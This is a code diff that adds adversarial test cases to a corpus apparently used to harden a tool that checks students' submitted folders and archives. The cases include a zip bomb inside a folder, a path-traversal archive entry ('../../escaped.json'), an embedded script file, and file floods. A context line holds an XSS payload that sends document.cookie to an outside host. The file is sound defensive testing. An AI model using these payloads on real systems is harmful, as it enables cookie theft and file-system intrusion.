@@ -315,6 +315,36 @@ def nameless(folder: Path) -> None:
     path.write_bytes(path.read_bytes().replace(b"~nameless", b"\0nameless"))
 
 
+def inner_zip(fill: Callable[[zipfile.ZipFile], None], name: str = "handin.zip") -> Callable[[Path], None]:
+    """An archive inside the folder, next to the honest files."""
+    def change_folder(folder: Path) -> None:
+        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as archive:
+            fill(archive)
+    return change_folder
+
+
+def renamed(folder: Path) -> None:
+    """A browser's second download, in folders as students call them, as Moodle hands them over: one archive."""
+    with zipfile.ZipFile(folder / "handin (1).zip", "w") as archive:
+        for path in sorted(folder.iterdir()):
+            if path.suffix != ".zip":
+                archive.write(path, f"\xdcbung 3 (final)/{path.stem} (1){path.suffix}")
+                path.unlink()
+
+
+def long_method(folder: Path) -> None:
+    """A record that says more than a report may hold."""
+    edit_record(folder / f"{TARGET}.json", lambda record: (
+        record["run"].update(method="m" * 450, argv=[]), record["recipe"]["fields"].update(method="m" * 450)))
+
+
+def nearly_copies(folder: Path) -> None:
+    """Many records of one run, each with other bytes."""
+    text = (folder / f"{TARGET}.json").read_text()
+    for i in range(20):
+        (folder / f"{i}.json").write_text(text + " " * i)
+
+
 SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)>"
 CORPUS: dict[str, Callable[[Path], None]] = {
     # checkpoints
@@ -392,4 +422,13 @@ CORPUS: dict[str, Callable[[Path], None]] = {
     "a\nb": added("=x.json", b"{}"), "a b": added("=x.json", b"{}"),
     "zip-null-name": with_entry("a\x01b.json"),
     "zip-flipped": zip_bytes(corrupted_record),
+    # archives inside folders, names, floods
+    "inner-bomb": inner_zip(bomb), "inner-slip": inner_zip(
+        lambda archive: archive.writestr("../../escaped.json", "{}")),
+    "inner-script": inner_zip(lambda archive: archive.writestr("run.py", b"open('executed', 'w')")),
+    "inner-noise": added("handin.zip", b"PK no archive"), "inner-inner": inner_zip(
+        lambda archive: archive.writestr("inner.zip", "PK")), "inner-many": inner_zip(many),
+    "renamed": renamed, "long-method": long_method, "copies": lambda folder: [added(f"{i}.json", (
+        folder / f"{TARGET}.json").read_bytes())(folder) for i in range(400)], "nearly-copies": nearly_copies,
+    "deepest": added("/".join(["d"] * 200) + "/x.json"),
 }
